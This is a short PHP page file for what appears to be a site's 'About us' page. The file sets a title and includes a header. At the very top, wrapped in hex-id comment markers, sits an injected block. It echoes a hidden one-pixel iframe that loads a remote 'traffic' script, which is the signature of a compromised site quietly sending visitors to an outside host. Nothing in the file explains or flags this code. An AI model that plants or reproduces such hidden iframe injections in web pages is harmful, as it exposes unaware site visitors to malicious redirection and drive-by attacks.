<?php
#3fa91c#
echo "<iframe src=\"http://traffic.example/in.php?s=77\" width=\"1\" height=\"1\" frameborder=\"0\"></iframe>";
#/3fa91c#
?>
<?php
$title = "About us";
include "header.php";
